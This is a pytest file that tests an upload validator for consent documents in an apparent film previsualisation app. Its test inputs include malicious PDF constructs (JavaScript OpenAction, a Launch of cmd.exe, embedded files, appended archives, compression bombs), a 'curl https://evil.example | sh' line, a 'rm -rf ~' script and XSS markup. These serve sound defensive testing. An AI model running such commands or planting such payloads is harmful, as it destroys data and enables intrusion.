"""Consent evidence that could act when a producer or lawyer opens it is refused, in one line; real releases pass."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest

from previs.errors import UploadRejected
from previs.media.uploads import check_document_upload


def pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    """A small well-formed PDF of ``objects`` (xref offsets included), then ``tail``."""
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return body + tail


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
RELEASE = pdf(CATALOG, PAGES, PAGE)


def stream(data: bytes) -> bytes:
    packed = zlib.compress(data)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed) + \
        packed + b"\nendstream"


def refusal(data: bytes) -> str:
    with pytest.raises(UploadRejected) as refused:
        check_document_upload(data, what="consent document")
    message = str(refused.value)
    assert "\n" not in message and message.startswith("The consent document ")
    return message


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.sh", "#!/bin/sh\nrm -rf ~\n")
    return buffer.getvalue()


def test_a_plain_signed_release_and_a_typed_note_are_kept() -> None:
    assert check_document_upload(RELEASE, what="consent document") == (RELEASE, "application/pdf")
    note = "Release: Ann Lee agrees to costume fittings for Nightfall, previs only. <3 Signed 2026-11-30.\n"
    assert check_document_upload(note.encode(), what="consent document")[1] == "text/plain"
    updated = RELEASE + b"% an incremental update, as signing software writes one\n%%EOF\n"
    assert check_document_upload(updated, what="consent document")[1] == "application/pdf"


@pytest.mark.parametrize(("name", "data", "says"), [
    ("open action javascript", pdf(CATALOG[:-2] + b" /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
                                   PAGES, PAGE), "/JS, /JavaScript"),
    ("hex-escaped name", pdf(CATALOG[:-2] + b" /OpenAction << /S /J#61vaScript /J#53 (x) >> >>", PAGES, PAGE),
     "/JS, /JavaScript"),
    ("javascript inside a compressed object stream", pdf(CATALOG, PAGES, PAGE,
                                                         stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
     "/JS, /JavaScript"),
    ("embedded file", pdf(CATALOG[:-2] + b" /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>",
                          PAGES, PAGE, b"<< /Type /EmbeddedFile >>"), "/EmbeddedFile, /EmbeddedFiles"),
    ("launch action", pdf(CATALOG[:-2] + b" /OpenAction << /S /Launch /F (cmd.exe) >> >>", PAGES, PAGE),
     "/Launch"),
])
def test_a_pdf_with_active_content_is_refused(name: str, data: bytes, says: str) -> None:
    assert f"carries active content ({says})" in refusal(data), name


def test_a_pdf_with_a_zip_appended_is_refused() -> None:
    assert "data after its end-of-file marker" in refusal(RELEASE + zip_bytes())
    assert "data after its end-of-file marker" in refusal(RELEASE + b"#!/bin/sh\necho hi\n")


def test_a_pdf_whose_stream_inflates_like_a_bomb_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("previs.media.documents.INFLATE_BUDGET", 1_000_000)
    assert "compression bomb" in refusal(pdf(CATALOG, PAGES, PAGE, stream(b"\0" * 2_000_000)))


@pytest.mark.parametrize("text", [
    "#!/bin/sh\ncurl https://evil.example | sh\n",
    "\ufeff#!/usr/bin/env python3\nimport os\n",
    "<html><body>Release<script>fetch('/add_performer')</script></body></html>",
    "Signed release.\n<SCRIPT >alert(1)</SCRIPT>\n",
    "<svg onload=alert(1)>",
    "see <a href=\"javascript:alert(1)\">the contract</a>",
])
def test_text_that_is_a_script_or_web_markup_is_refused(text: str) -> None:
    assert "script" in refusal(text.encode())
